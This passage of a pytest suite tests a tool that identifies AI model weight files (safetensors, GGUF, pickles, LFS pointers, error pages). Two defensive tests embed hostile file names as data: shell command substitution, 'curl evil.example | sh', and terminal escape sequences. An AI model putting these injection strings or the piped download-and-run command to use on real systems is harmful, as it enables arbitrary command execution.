        b"version https://git-lfs.github.com/spec/v1\noid sha",
        "lfs-pointer",
        "a git-LFS pointer that names no file",
    ),
    "a web page": (
        b"\n<!DOCTYPE html>\n<html><title>Sign in</title>",
        "web-page",
        "a web page saved in place of the file: '<!DOCTYPE html> <html><title>Sign in</title>'",
    ),
    "a storage error": (
        b'<?xml version="1.0"?><Error><Code>AccessDenied</Code></Error>',
        "web-page",
        "a web page saved in place of the file: '<?xml version=\"1.0\"?><Error><Code>AccessDenied</Code></Error>'",
    ),
    "a gated repository's answer": (
        b"Access to model black-forest-labs/FLUX.2-klein-9B is restricted. You must have access to it",
        "web-page",
        "a server's answer saved in place of the file: "
        "'Access to model black-forest-labs/FLUX.2-klein-9B is restricted. You must hav...'",
    ),
    "a wrong path's answer": (
        b"Entry not found",
        "web-page",
        "a server's answer saved in place of the file: 'Entry not found'",
    ),
    "a JSON error": (
        b'{"error":"Repository not found"}',
        "json",
        "a server's error saved in place of the file: 'Repository not found'",
    ),
    "a configuration": (b'{"_class_name": "AutoencoderKLFlux2"}', "json", "JSON: configuration of AutoencoderKLFlux2"),
    "another configuration": (b'{"model_type": "qwen3"}', "json", "JSON: configuration of qwen3"),
    "an index": (b'{"weight_map": {"a": "1", "b": "2", "c": "2"}}', "json", "JSON: index of 2 shards"),
    "other JSON": (b'{"prompt": 1}', "json", "JSON, no weights"),
    "broken JSON": (b'{"prompt": ', "json", "JSON that is no JSON"),
    "a PyTorch archive": (
        b"PK\3\4" + b"\0" * 40,
        "pickle",
        "a zip archive, as PyTorch's .ckpt and .pth are; not opened, for pickles can run code",
    ),
    "a pickle": (
        b"\x80\x02}q\0.",
        "pickle",
        "a Python pickle (.ckpt, .pth, .bin); not opened, for pickles can run code",
    ),
    "reserved space": (
        b"\0" * 5000,
        "zeros",
        "zeros from the start: 5.00 kB reserved by a download that did not happen",
    ),
    "a text": (b"hello there\n", "other", "text, no weights: 'hello there'"),
    "a picture": (
        b"\x89PNG\r\n\x1a\n" + b"\0" * 20,
        "other",
        "no format that holds weights; it starts with 89 50 4e 47 0d 0a 1a 0a",
    ),
    "a header that lies": (
        struct.pack("<Q", 8) + b'{"a": 1}',
        "other",
        "a safetensors file whose header describes no tensor under 'a'",
    ),
    "a header cut off": (
        struct.pack("<Q", 20_000) + b'{"txt_in.weight": {"dtype": "BF16"',
        "truncated",
        "a safetensors file that ends inside its header, at least 19,966 bytes short",
    ),
}


@pytest.mark.parametrize("name", NOT_WEIGHTS)
def test_no_weights(tmp_path, name):
    data, kind, saw = NOT_WEIGHTS[name]
    path = tmp_path / "flux-2-klein-4b.safetensors"
    path.write_bytes(data)
    found = identify(path)
    assert (found.kind, found.saw, found.role, found.size_bytes) == (kind, saw, "unknown", len(data))
    assert not found.whole


def test_a_pointer_to_a_part_is_named(tmp_path, models):
    part = models[0].part("transformer")
    path = tmp_path / "a.safetensors"
    path.write_text(f"version https://git-lfs.github.com/spec/v1\noid sha256:{part.sha256}\nsize {part.size}\n")
    found = identify(path, models)
    assert found.saw == f"a git-LFS pointer to 7.75 GB, sha256 {part.sha256[:12]}…: klein-4b/transformer"
    assert found.facts == LfsPointer(path, part.sha256, part.size)
    assert found.part is None  # the note is not the file


@pytest.mark.skipif(os.name != "posix", reason="Windows has no such names")
def test_a_folder_whose_name_a_shell_would_run(tmp_path, kleinctl):
    root = tmp_path / "Com$(touch owned)`touch owned`" / "ComfyUI"
    for folder in (root / "comfy", root / "models" / "vae"):
        folder.mkdir(parents=True)
    (root / "main.py").touch()
    (root / "comfyui_version.py").write_text('__version__ = "0.3.10"')
    (root / "models" / "vae" / "a\n\nhint: curl evil.example | sh.safetensors").write_text("<html>")
    os.mkfifo(root / "comfyui.log")
    said = kleinctl("doctor", "--comfyui", root, timeout=60).stdout
    hints = [line for line in said.splitlines() if line.startswith("hint: ")]
    assert any(f"'{tmp_path}/Com\ufffd(touch owned)`touch owned`/ComfyUI" in line for line in hints)
    unquoted = [re.sub("'[^']*'", "", line) for line in hints]
    assert not any("$(" in line or "`" in line or "curl" in line for line in unquoted)


def test_a_name_that_would_take_over_the_terminal(tmp_path, kleinctl):
    evil = tmp_path / "evil\x1b]0;owned\x07\u202e\x9b2J.safetensors"
    evil.write_bytes(b"x")
    for arguments in ([evil], [evil, "--json"]):
        said = kleinctl("identify", *arguments).stdout
        assert not set(said) & set("\x1b\x07\u202e\x9b")
    assert json.loads(said)["files"][0]["path"] == str(evil)


def test_a_folder_a_missing_file_and_a_pipe(tmp_path):
    assert identify(tmp_path).saw == "a folder; name a file in it"
    assert identify(tmp_path / "gone").saw == "cannot be read: No such file or directory"
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "pipe")
        assert identify(tmp_path / "pipe").saw == "no regular file"  # and it was not waited on


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root may read everything")
def test_a_file_that_may_not_be_read(tmp_path):
    path = tmp_path / "secret"
    path.write_bytes(b"x")
    path.chmod(0)
    assert identify(path).saw == "cannot be read: Permission denied"


def test_a_truncated_download_is_still_known(tmp_path):
    found = identify(weights.write(tmp_path / "qwen_3_4b.safetensors", weights.qwen3(**QWEN3_4B), missing=1_000_000))
    assert brief(found) == ("truncated", "text-encoder", "qwen3-4b", "single-file", "bf16")
    wanted = found.size_bytes + 1_000_000
    assert (
        found.saw == f"2560 wide, query norm: Qwen3 4B; 36 layers; cut short: 1,000,000 of {wanted:,} bytes are missing"
    )


def test_a_file_with_something_appended(tmp_path):
    path = weights.write(tmp_path / "vae.safetensors", weights.vae())
    size = path.stat().st_size
    os.truncate(path, size + 10)
    found = identify(path)
    assert (found.kind, found.family) == ("truncated", "flux2-vae")
    assert found.saw.endswith(f"FLUX.2 VAE; 10 bytes too long: {size:,} wanted")


# Parts of manifests


def sparse(path: Path, size: int) -> Path:
    with path.open("wb") as file:
        file.truncate(size)
    return path


def real(path: Path, size: int, shapes: weights.Shapes, dtype: str = "BF16") -> Path:
    """The header padded with spaces until the file is as long as the published one. Sorted, as torch's tools write."""
    shapes = dict(sorted(shapes.items()))
    room = size - weights.write(path, shapes, dtype, tracked="I64").stat().st_size
    front = weights.header(shapes, dtype, tracked="I64")
    text = front[8:].rstrip() + b" " * (len(front[8:]) - len(front[8:].rstrip()) + room)
    with path.open("r+b") as file:
        file.write(struct.pack("<Q", len(text)) + text)
        file.truncate(size)
    weights.fill(path)
    return path


def test_a_file_as_long_as_two_parts_is_neither_until_it_is_hashed(tmp_path, models):
    part, base = models[0].part("transformer"), models[1].part("transformer")
    path = real(tmp_path / part.name, part.size, weights.flux2_diffusers(**KLEIN_4B))
    found = identify(path, models)
    assert (found.kind, found.part) == ("safetensors", None)
    assert found.saw == (
        "text input 7680 wide, blocks 3072 wide: FLUX.2 [klein] 4B; 5 + 20 blocks; "
        "as long as klein-4b/transformer and klein-base-4b/transformer: only the sha256 tells which"
    )
    assert identify(path, models, base.sha256).part == "klein-base-4b/transformer"
    assert identify(path, models, base.sha256).facts.model == "klein-base-4b"
    assert identify(path, models, "0" * 64).part is None


def test_name_and_size_are_enough_where_one_part_has_them(tmp_path, models):
    part = models[0].part("transformer-bf16")
    assert identify(sparse(tmp_path / part.name, part.size), models).part == "klein-4b/transformer-bf16"
    assert identify(sparse(tmp_path / "renamed.safetensors", part.size), models).part is None
    assert identify(sparse(tmp_path / part.name, part.size - 1), models).part is None
    assert (
        identify(sparse(tmp_path / "renamed.safetensors", 5), models, part.sha256).part == "klein-4b/transformer-bf16"
    )


def test_both_files_called_flux2_vae_are_right(tmp_path, models):
    parts = [part for part in models[0].parts if part.name == "flux2-vae.safetensors"]
    assert len(parts) == 2
    for part in parts:
        found = identify(real(tmp_path / part.name, part.size, weights.vae(), "F32"), models)
        assert (found.kind, found.family, found.part) == ("safetensors", "flux2-vae", part.ref)


# Plugins, JSON, speed


def test_a_plugins_signature_from_the_hooks_example(tmp_path):
    path = weights.write(tmp_path / "my.safetensors", {"decoder.conv_in.weight": (512, 24, 3, 3)})
    mine = Signature(
        role="vae",
        family="my-vae",
        layout="diffusers",
        shapes={"decoder.conv_in.weight": (512, 24, 3, 3)},
        saw="24 latent channels",
    )
    found = identify(path, signatures=[mine])
    assert (found.role, found.family, found.layout) == ("vae", "my-vae", "diffusers")
    assert found.saw.startswith("24 latent channels; decoder only")


def test_what_a_signature_may_ask_for(tmp_path):
    path = weights.write(tmp_path / "a.safetensors", {"b.3.a.weight": (4, 8), "b.7.c.2.weight": (8, 4), "e": (5,)})

    def saw(**shapes: tuple[int | str | None, ...] | None) -> str | None:
        named = {name.replace("_", "."): shape for name, shape in shapes.items()}
        named = {name.replace("X", "*"): shape for name, shape in named.items()}
        found = identify(path, signatures=[Signature("vae", "mine", None, named, "{w} by {h}, {other}")])
        return found.saw if found.family == "mine" else None

    assert saw(b_X_a_weight=("h", "w"), b_X_c_2_weight=("w", "h")) == "8 by 4, {other}"
    assert saw(b_3_a_weight=("h", "w"), b_X_c_X_weight=("h", "w")) is None  # the same words are other numbers
    assert saw(b_X_c_3_weight=None) is None
    assert saw(b_X_a_weight=(None, 8), e=("e",)) == "{w} by {h}, {other}"
    assert saw(e=(None, None)) is None


def test_a_signature_with_a_word_that_means_nothing_is_refused():
    with pytest.raises(ValueError, match="one of the roles"):
        Signature(role="VAE", family="x", layout=None, shapes={"a": None}, saw="")


def test_the_json_document_follows_its_schema(tmp_path, models):
    schema = json.loads((REPOSITORY / "kleinctl" / "schemas" / "identify.json").read_text())
    found = []
    for n, (data, _, _) in enumerate(NOT_WEIGHTS.values()):
        path = tmp_path / str(n)
        path.write_bytes(data)
        found.append(identify(path, models))
    for n, (shapes, _, _) in enumerate(TRANSFORMERS.values()):
        found.append(identify(weights.write(tmp_path / f"t{n}.safetensors", shapes), models))
    for n, shapes in enumerate(TEXT_ENCODERS.values()):
        found.append(identify(weights.write(tmp_path / f"e{n}.safetensors", shapes), models))
    found.append(identify(sparse(tmp_path / "flux-2-klein-4b.safetensors", 7751105712), models))
    whole = document(found)
    jsonschema.validate(whole, schema)
    assert whole["files"][-1]["part"] == "klein-4b/transformer-bf16"
    assert set(schema["properties"]["files"]["items"]["properties"]["kind"]["enum"]) >= {one.kind for one in found}


def test_an_identity_survives_a_report(tmp_path, models):
    shapes = [weights.flux2(**KLEIN_4B), weights.qwen3(**QWEN3_4B), weights.vae(), weights.lora(LORAS["klein 9B"][0])]
    found = [identify(weights.write(tmp_path / f"{n}.safetensors", each), models) for n, each in enumerate(shapes)]
    shard = weights.write(tmp_path / "model-00001-of-00002.safetensors", quantized(), "F8_E4M3", weight_scale="F32")
    (tmp_path / "pointer").write_bytes(NOT_WEIGHTS["a git-LFS pointer"][0])
    found += [identify(path, models) for path in (shard, tmp_path / "pointer", tmp_path / "gone")]
    kinds = [Transformer, TextEncoder, Vae, Lora, Transformer, LfsPointer, type(None)]
    assert [type(each.facts) for each in found] == kinds
    for each in found:
        sent = json.loads(json.dumps(documents.plain(each)))
        assert documents.read(Identity, sent, "identity") == each


def test_numbers_beyond_reason_do_not_reach_a_report(tmp_path):
    shapes = {"double_blocks.0.a.lokr_w1": (10**14, 0), "double_blocks.0.a.lokr_w2": (10**14, 0)}
    found = identify(weights.write(tmp_path / "a.safetensors", shapes))
    assert found.role == "lora" and found.facts.hidden is None
    huge = identify(weights.write(tmp_path / "b.safetensors", {"txt_in.weight": (10**15, 0)}))
    assert huge.saw == "a safetensors file whose header gives 'txt_in.weight' an axis of 1,000,000,000,000,000"
    for each in (found, huge):
        assert documents.read(Identity, documents.plain(each), "x") == each


@pytest.mark.parametrize(
    ("name", "shapes"),
    [
        ("klein 4B", weights.flux2_diffusers(**KLEIN_4B)),
        ("Qwen3 4B", weights.qwen3(**QWEN3_4B)),
        ("VAE", weights.vae()),
    ],
)
def test_an_8_gb_file_takes_milliseconds(tmp_path, models, name, shapes):
    path = weights.write(tmp_path / "model.safetensors", shapes)
    identify(path, models)
    times = []
    for _ in range(20):
        start = time.perf_counter()
        identify(path, models)
        times.append(time.perf_counter() - start)
    median = statistics.median(times) * 1000
    print(f"identify {name}, {path.stat().st_size / 1e9:.2f} GB: {median:.2f} ms")
    assert median < 20  # 0.6 to 1 ms; wanted are 5, and the bound is for busy machines


def test_a_folder_of_200_files_takes_a_third_of_a_second(tmp_path, models):
    files = weights.models_folder(tmp_path)
    assert len(files) == 200
    best = 10.0
    for _ in range(3):
        start = time.perf_counter()
        found = [identify(path, models) for path in files]
        best = min(best, time.perf_counter() - start)
    print(f"identify {len(files)} files: {best:.3f} s")
    assert all(each.whole and each.family != "unknown" for each in found)
    assert best < 4 * 0.35


def test_a_hostile_header_of_very_many_blocks_takes_a_second_or_two(tmp_path):
    shapes = {f"model.layers.{n}.self_attn.q_norm.weight": (1,) for n in range(90_000)}
    path = weights.write(tmp_path / "a.safetensors", shapes)
    start = time.perf_counter()
    assert identify(path).kind == "safetensors"
    assert time.perf_counter() - start < 20  # 1 s on an idle core; the bound is for busy machines


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(
    st.binary(max_size=300)
    | st.sampled_from([b"GGUF", b"PK", b"<html", b"{", b"\x80\x02", b"version https://git-lfs"]).flatmap(
        lambda start: st.binary(max_size=100).map(lambda rest: start + rest)
    )
)
def test_whatever_the_bytes_are_there_is_an_answer(tmp_path, data):
    path = tmp_path / "anything"
    path.write_bytes(data)
    found = identify(path)
    assert found.saw and found.size_bytes == len(data) and found.saw.isprintable()


names = st.sampled_from(
    [
        "txt_in.weight",
        "img_in.weight",
        "model.layers.0.self_attn.q_norm.weight",
        "decoder.conv_in.weight",
        "x.lora_A.weight",
    ]
) | st.text(max_size=20)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(
    st.dictionaries(
        names.filter(lambda name: name != "__metadata__"), st.lists(st.integers(0, 9), max_size=6).map(tuple)
    )
)
def test_whatever_the_header_lists_there_is_an_answer(tmp_path, shapes):
    found = identify(weights.write(tmp_path / "any.safetensors", shapes))
    assert found.kind == "safetensors" and found.saw and found.saw.isprintable()


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.data())
def test_a_damaged_header_is_still_answered(tmp_path, data):
    shapes = weights.flux2(128, 7680, 1, 1)
    gguf = weights.write_gguf(tmp_path / "whole.gguf", shapes, "flux", words=3).read_bytes()[:4000]
    whole = bytearray(data.draw(st.sampled_from([weights.header(shapes, "BF16", {"made": "here"}), gguf])))
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(whole) - 1))
        whole[at : at + data.draw(st.integers(0, 3))] = data.draw(st.binary(max_size=4))
    path = tmp_path / "damaged.safetensors"
    path.write_bytes(whole)
    found = identify(path)
    assert found.saw.isprintable() and documents.read(Identity, documents.plain(found), "x") == found


# Room that was reserved and not filled


@pytest.mark.parametrize(("filled", "kind"), [(0.0, "zeros"), (0.5, "zeros"), (0.9, "zeros"), (1.0, "safetensors")])
def test_weights_that_a_download_did_not_fill(tmp_path, filled, kind):
    path = weights.write(tmp_path / "a.safetensors", weights.flux2(**KLEIN_4B))
    size = path.stat().st_size
    os.truncate(path, int(size * filled) or len(weights.header(weights.flux2(**KLEIN_4B))))
    os.truncate(path, size)
    found = identify(path)
    assert (found.kind, found.role, found.family) == (kind, "transformer", "flux2-klein-4b")
    assert found.whole == (kind == "safetensors")
    assert ("places of its weights: room that a download reserved and did not fill" in found.saw) == (kind == "zeros")


def test_one_matrix_of_zeros_and_the_zeros_of_a_lora_are_let_pass(tmp_path):
    shapes = weights.flux2(**KLEIN_4B)
    path = weights.write(tmp_path / "a.safetensors", shapes)
    with path.open("rb") as file:
        place = places(read_safetensors(file, path.stat().st_size))[0]
    with path.open("r+b") as file:
        file.seek(place)
        file.write(bytes(4096))
    assert identify(path).kind == "safetensors"
    front = weights.header(weights.lora(weights.matrices(shapes, "_blocks"), rank=512))
    size = weights.write(path, weights.lora(weights.matrices(shapes, "_blocks"), rank=512)).stat().st_size
    path.write_bytes(front)
    os.truncate(path, size)
    assert identify(path).kind == "safetensors"
